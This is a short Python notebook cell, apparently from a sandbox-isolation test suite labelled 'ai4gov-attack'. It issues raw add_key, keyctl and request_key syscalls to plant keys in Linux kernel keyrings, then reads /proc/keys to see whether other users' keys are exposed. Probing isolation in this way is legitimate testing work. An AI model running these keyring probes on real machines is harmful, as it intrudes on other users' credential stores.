# %% [markdown]
# leaves keys in the keyrings of its user, and reads those of others

# %% start parts="look call"
name = b"ai4gov-attack-@NAME@\0"
for ring in (-1, -2, -3, -4, -5):
    closed("add_key", (248, 217), b"user\0", name, b"x", 1, ring)
    closed("keyctl", (250, 219), 11, ring, PLACE, 4096)
closed("request_key", (249, 218), b"user\0", name, None, -4)
attempt(lambda: print("FACTS OF THE MACHINE" if read("/proc/keys") else ""))
